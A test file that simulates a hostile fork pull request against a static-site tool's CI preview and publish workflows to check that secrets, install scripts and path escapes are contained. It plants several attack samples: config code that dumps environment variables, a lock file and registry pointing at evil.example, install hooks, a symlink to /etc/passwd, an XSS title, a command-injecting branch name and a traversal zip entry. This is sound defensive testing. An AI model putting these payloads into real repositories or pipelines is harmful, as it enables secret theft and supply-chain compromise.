import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readZip, writeZip } from '../../cli/input/zip.ts';
import { runJob } from '../preview/job.ts';
import { LEASE, writeUp } from '../support/page.ts';
import { outsideEnvironment } from './support/environment.ts';
import { type ScratchSite, scratchSite } from './support/scratch-site.ts';

/*
 * Runs a hostile pull request from a fork through both jobs: the workflows' scripts run in a shell. Only the host and
 * the installation from a registry are stubbed.
 */

const CANARY = 'canary-5b1d7c90e2';
const HEAD = 'ab'.repeat(20);
const EVIL = '@everyone <img src=x onerror=alert(1)> `` [x](https://evil.example)';
const PAGE = writeUp(`\`\`\`scenario\n${LEASE}\n\`\`\`\n\nLost at \`sim: lease.marks.lost.at\`.`);

let site: ScratchSite;
let place: string;
let artifact: Map<string, Buffer>;
let first: { code: number; output: string };
let linked: { code: number; output: string };

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.org', ...args], {
    cwd,
    encoding: 'utf8',
    maxBuffer: 2 ** 26,
  });

const context = (checkout: string, more: Record<string, string> = {}) => ({
  checkout,
  temp: join(place, 'temp'),
  env: {
    PATH: `${join(place, 'bin')}:${process.env['PATH']}`,
    HOME: join(place, 'home'),
    GITHUB_SERVER_URL: `file://${place}`,
    GITHUB_REPOSITORY: 'acme/site',
    GITHUB_REPOSITORY_OWNER: 'acme',
    GIT_CONFIG_GLOBAL: '/dev/null',
    FAKE: place,
    ...more,
  },
});

beforeAll(async () => {
  place = mkdtempSync(join(tmpdir(), 'hindcast-fork-'));
  for (const name of ['bin', 'temp', 'home', 'acme']) mkdirSync(join(place, name));
  writeStubs(place);
  git(place, 'init', '-q', '--bare', '-b', 'main', 'acme/site.git');
  site = await scratchSite();
  await site.write('content/incidents/lease.md', PAGE);
  await site.write('package.json', '{ "name": "site", "private": true, "type": "module" }\n');
  await site.write('.gitignore', '.astro/\nnode_modules/\npreview/\n');
  git(site.folder, 'init', '-q', '-b', 'main');
  git(site.folder, 'add', '.');
  git(site.folder, 'commit', '-qm', 'site');
  git(site.folder, 'push', '-q', `file://${place}/acme/site.git`, 'main');
  await hostileBranch(site, place);
  const base = git(site.folder, 'rev-parse', 'main').trim();
  const job = { ...context(site.folder), values: { 'github.event.pull_request.base.sha': base } };
  linked = runJob('ci-github-preview.yml', job);
  // The rest of the attack works without the link.
  rmSync(join(site.folder, 'public/leak.txt'));
  first = runJob('ci-github-preview.yml', job);
  const folder = join(site.folder, 'preview');
  artifact = new Map(
    (existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }) : [])
      .filter((name) => statSync(join(folder, name)).isFile())
      .map((name) => [name, readFileSync(join(folder, name))]),
  );
});

afterAll(async () => {
  await site?.dispose();
  rmSync(place, { recursive: true, force: true });
});

test('the first job builds the branch without install scripts or secrets', () => {
  expect(linked.code).not.toBe(0);
  expect(linked.output).toContain('this symbolic link points outside the site');
  expect(first.output).toMatch(/changes? in \d+ write-up/);
  expect([...artifact.keys()]).toEqual(expect.arrayContaining(['index.html', 'diff.html', 'diff.json']));
  // The branch's configuration did run, but found no secrets.
  expect(artifact.get('stolen.txt')!.toString()).toContain('GITHUB_REPOSITORY');
  expect(artifact.get('stolen.txt')!.toString()).not.toContain(CANARY);
  expect(existsSync(join(place, 'installed'))).toBe(false);
});

test('the second job publishes only below the pull request number and leaks no secret', () => {
  const checkout = join(place, 'checkout');
  git(place, 'clone', '-q', `file://${place}/acme/site.git`, checkout);
  const archive = writeZip(artifact);
  expect(readZip(archive).length).toBe(artifact.size);
  writeFileSync(join(place, 'artifact.zip'), archive);
  const before = filesIn(place);
  const { code, output } = runJob('ci-github-publish.yml', secondJob(checkout));
  expect({ code, output }).toMatchObject({ code: 0 });
  expect(git(checkout, 'status', '--porcelain', '--ignored')).toBe('');

  const published = git(place, '--git-dir=acme/site.git', 'ls-tree', '-r', '--name-only', 'gh-pages')
    .trim()
    .split('\n');
  expect(published.filter((name) => !name.startsWith('previews/pr-7/'))).toEqual(['.nojekyll']);
  expect(published).toContain('previews/pr-7/expires.json');
  expect(git(place, '--git-dir=acme/site.git', 'log', '--format=%P', 'gh-pages').trim()).toBe('');
  const fresh = filesIn(place).filter((name) => !before.includes(name));
  const allowed =
    /^(?:temp\/(?:preview\.zip$|comment\.md$|output$|unpacked\/previews\/pr-7\/|pages\/)|acme\/site\.git\/|posted\.md$|home\/)/;
  expect(fresh.filter((name) => !allowed.test(name))).toEqual([]);

  const comment = readFileSync(join(place, 'posted.md'), 'utf8');
  expect(comment).toMatch(/^<!-- hindcast-preview -->\n/);
  expect(comment.replace(/(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)/g, '')).not.toMatch(
    /everyone|evil\.example|<img/,
  );
  const shown = git(place, '--git-dir=acme/site.git', 'log', '-p', '--all', '--text');
  expect([output, comment, shown].filter((text) => text.includes(CANARY))).toEqual([]);
});

test('rejects an artifact that is not a preview, and publishes nothing', () => {
  const checkout = join(place, 'checkout');
  rmSync(join(place, 'posted.md'), { force: true });
  rmSync(join(place, 'temp'), { recursive: true });
  mkdirSync(join(place, 'temp'));
  const published = git(place, '--git-dir=acme/site.git', 'rev-parse', 'gh-pages');
  writeFileSync(
    join(place, 'artifact.zip'),
    writeZip(new Map([...artifact, ['../../evil.html', Buffer.from('x')]])),
  );
  const { code, output } = runJob('ci-github-publish.yml', secondJob(checkout));
  expect(code).not.toBe(0);
  expect(output).toContain('points outside its folder');
  expect(output).not.toContain(CANARY);
  expect(git(place, '--git-dir=acme/site.git', 'rev-parse', 'gh-pages')).toBe(published);
  expect(existsSync(join(place, 'posted.md'))).toBe(false);
});

test.each([
  ['', 'the variable HINDCAST_PREVIEWS has no address'],
  ['https://acme.github.io/site', 'could read the owner'],
])('at “%s”, comments but publishes nothing', (address, reason) => {
  const checkout = join(place, 'checkout');
  rmSync(join(place, 'temp'), { recursive: true });
  mkdirSync(join(place, 'temp'));
  const published = git(place, '--git-dir=acme/site.git', 'rev-parse', 'gh-pages');
  writeFileSync(join(place, 'artifact.zip'), writeZip(artifact));
  const { code, output } = runJob('ci-github-publish.yml', secondJob(checkout, address));
  expect({ code, output }).toMatchObject({ code: 0 });
  expect(output).toContain(reason);
  expect(git(place, '--git-dir=acme/site.git', 'rev-parse', 'gh-pages')).toBe(published);
  expect(readFileSync(join(place, 'posted.md'), 'utf8')).not.toMatch(/Full comparison|available until/);
});

test('the archive has the same pages, with links that work from a disk', () => {
  git(site.folder, 'checkout', '-qf', 'main');
  rmSync(join(site.folder, 'public'), { recursive: true, force: true });
  const cli = fileURLToPath(new URL('../../cli/hindcast.mjs', import.meta.url));
  const out = join(place, 'whole.zip');
  const said = execFileSync(process.execPath, [cli, 'preview', '--base', 'evil', '--out', out], {
    cwd: site.folder,
    env: outsideEnvironment(),
    encoding: 'utf8',
  });
  expect(said).toMatch(/\n2 changes in 1 write-up\.\nwrote .*whole\.zip \(\d+ files\)/);
  const files = new Map(readZip(readFileSync(out)).map((one) => [one.name, one.bytes().toString()]));
  expect([...files.keys()]).toEqual(
    expect.arrayContaining(['comment.md', 'diff.html', 'diff.json', 'incidents/lease/index.html']),
  );
  expect(files.get('incidents/lease/index.html')).toContain('href="../../');
  expect(files.get('incidents/lease/index.html')).not.toMatch(/(?:href|src)="\//);
  expect(files.get('diff.html')).toContain('Before');
});

function secondJob(checkout: string, address = 'https://previews.example') {
  return {
    ...context(checkout, { CANARY }),
    values: {
      'github.token': CANARY,
      'github.event.workflow_run.id': '9',
      'github.event.workflow_run.head_sha': HEAD,
      'github.event.workflow_run.head_repository.owner.login': 'stranger',
      'github.event.workflow_run.head_branch': '$(touch${IFS}evil);`id`',
      'vars.HINDCAST_PREVIEWS': address,
      'vars.HINDCAST_PREVIEWS_ON_PAGES': '',
    },
  };
}

/** Changes everything that an outsider can change: configuration, lock file, scripts, links, and text. */
async function hostileBranch(target: ScratchSite, folder: string): Promise<void> {
  git(target.folder, 'checkout', '-qb', 'evil');
  const config = readFileSync(join(target.folder, 'astro.config.mjs'), 'utf8');
  await target.write(
    'astro.config.mjs',
    `import { mkdirSync, writeFileSync } from 'node:fs';\nmkdirSync('public', { recursive: true });\nwriteFileSync('public/stolen.txt', JSON.stringify(process.env));\n${config}`,
  );
  const touch = `touch ${join(folder, 'installed')}`;
  await target.write(
    'package.json',
    JSON.stringify({
      name: 'site',
      type: 'module',
      scripts: { preinstall: touch, postinstall: touch, prepare: touch },
    }),
  );
  await target.write(
    'package-lock.json',
    '{ "lockfileVersion": 3, "packages": { "node_modules/hindcast": { "resolved": "https://evil.example/x.tgz" } } }',
  );
  await target.write('.npmrc', 'registry=https://evil.example/\nignore-scripts=false\n');
  await target.write(
    'content/incidents/lease.md',
    PAGE.replace('title: A page', `title: '${EVIL}'`).replace('delay: 10m', 'delay: 12m'),
  );
  await target.write('.github/workflows/publish-preview.yml', 'name: Publish preview\n');
  mkdirSync(join(target.folder, 'public'));
  symlinkSync('/etc/passwd', join(target.folder, 'public/leak.txt'));
  git(target.folder, 'add', '.');
  git(target.folder, 'commit', '-qm', EVIL);
}

/**
 * Stubs for the host, and for npm without a registry. The npm stub runs a package's scripts unless it's called with
 * `--ignore-scripts`.
 */
function writeStubs(folder: string): void {
  const cli = fileURLToPath(new URL('../../cli/hindcast.mjs', import.meta.url));
  const programs = {
    npm: '[ "$*" = "ci --ignore-scripts" ] || sh -c "$(node -p \'require("./package.json").scripts.postinstall\')"',
    npx: `shift\nexec "${process.execPath}" "${cli}" "$@"`,
    gh: `case "$*" in
  *"/pulls "*) echo 7 ;;
  *"/runs/9/artifacts "*) echo 42 ;;
  *"/artifacts/42/zip") cat "$FAKE/artifact.zip" ;;
  "auth setup-git") ;;
  *"--paginate"*) ;;
  *"POST repos/acme/site/issues/7/comments"*) cp "$RUNNER_TEMP/comment.md" "$FAKE/posted.md" ;;
  *) echo "unexpected: $*"; exit 9 ;;
esac`,
  };
  for (const [name, script] of Object.entries(programs)) {
    writeFileSync(join(folder, 'bin', name), `#!/bin/sh\nset -e\n${script}\n`);
    chmodSync(join(folder, 'bin', name), 0o755);
  }
}

function filesIn(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((one) => !one.isDirectory())
    .map((one) => relative(folder, join(one.parentPath, one.name)));
}
